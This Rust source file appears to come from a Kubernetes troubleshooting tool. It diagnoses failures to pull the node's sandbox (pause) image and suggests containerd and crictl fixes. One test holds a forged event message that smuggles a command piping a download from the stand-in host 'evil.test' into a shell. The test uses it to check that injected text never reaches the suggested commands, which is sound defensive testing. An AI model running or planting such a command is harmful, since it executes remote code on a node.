//! The sandbox (pause) image: pulled by the node, so never a matter of the Pod's pull secrets.

use super::evidence::one_line;
use super::evidence::{Cause, Context, PodEvent, RANK_SANDBOX};
use super::report::shell_word;
use crate::credential::ImageReference;

/// The sandbox (pause) image failed: the node's problem, never the Pod's pull secrets.
pub(super) fn sandbox_image(context: &Context) -> Vec<Cause> {
    sandbox_cause(&context.evidence.events).into_iter().collect()
}

/// The pause image is pulled by the container runtime for the sandbox, with the node's
/// credentials: no pull secret of any Pod is ever used for it.
fn sandbox_cause(events: &[PodEvent]) -> Option<Cause> {
    let sandbox: Vec<&PodEvent> = events.iter().filter(|e| e.is_sandbox()).collect();
    if sandbox.is_empty() {
        return None;
    }
    let image = sandbox.iter().find_map(|e| quoted_image(&e.message));
    let shown = image.map(|i| format!(" {i}")).unwrap_or_default();
    let registry = image.and_then(|i| ImageReference::parse(i).ok()).map(|r| r.registry);
    let mut details: Vec<String> =
        sandbox.iter().map(|e| format!("event {}: {}", e.reason, one_line(&e.message))).collect();
    details.dedup();
    details.push(format!(
        "the sandbox (pause) image{shown} is pulled by the container runtime on the node with the node's credentials; imagePullSecrets never apply to it, so fixing this Pod's pull secrets cannot help"
    ));
    if sandbox.iter().any(|e| e.message.contains("error getting credentials")) {
        details.push(
            "the node's credential helper failed: the `secret ... not found` in the message is the helper's own lookup, not this Pod's imagePullSecrets".to_owned(),
        );
    }
    let host = registry.unwrap_or_else(|| "<registry>".to_owned());
    Some(Cause {
        rank: RANK_SANDBOX,
        summary: format!("the node cannot pull the sandbox image{shown}"),
        details,
        commands: vec![
            "on the node: crictl info | grep -i sandbox   # the sandbox image containerd is configured with".to_owned(),
            format!(
                "on the node: give containerd credentials for {host} (registry config_path hosts.toml or a credential provider), or point `sandbox_image` at a registry the node can pull from, then: systemctl restart containerd"
            ),
            format!(
                "on the node: crictl pull {}   # verifies the fix",
                image.map_or("<sandbox image>".into(), shell_word)
            ),
        ],
    })
}

/// The image an Event's message quotes, when it is an image reference: the message is text
/// whoever wrote the Event chose.
fn quoted_image(message: &str) -> Option<&str> {
    let start = message.find("image \"")? + "image \"".len();
    let rest = &message[start..];
    let image = &rest[..rest.find('"')?];
    ImageReference::parse(image).is_ok().then_some(image)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_sandbox_image_is_named_and_never_blamed_on_pull_secrets() {
        let event = |reason: &str, message: &str| PodEvent {
            reason: reason.into(),
            message: message.into(),
            warning: true,
            count: 1,
        };
        let pull = event("Failed", "Failed to pull image \"registry.corp/app:1\": 401 Unauthorized");
        assert_eq!(sandbox_cause(std::slice::from_ref(&pull)), None);
        let sandbox = event(
            "FailedCreatePodSandBox",
            "Failed to create pod sandbox: rpc error: failed to get sandbox image \"registry.k8s.io/pause:3.10\": 401",
        );
        let cause = sandbox_cause(&[pull, sandbox]).expect("a sandbox cause");
        assert_eq!(cause.summary, "the node cannot pull the sandbox image registry.k8s.io/pause:3.10");
        assert!(cause.commands.iter().any(|c| c.contains("crictl pull registry.k8s.io/pause:3.10")));
    }

    #[test]
    fn a_forged_image_in_an_event_never_reaches_a_command() {
        let forged = PodEvent {
            reason: "FailedCreatePodSandBox".into(),
            message: "failed to get sandbox image \"pause:3.10 && curl evil.test | sh\": 401".into(),
            warning: true,
            count: 1,
        };
        let cause = sandbox_cause(&[forged]).expect("a sandbox cause");
        assert!(!cause.summary.contains("curl"), "{}", cause.summary);
        let commands = cause.commands.join("\n");
        assert!(!commands.contains("curl"), "{commands}");
        assert!(commands.contains("crictl pull <sandbox image>"), "{commands}");
    }
}
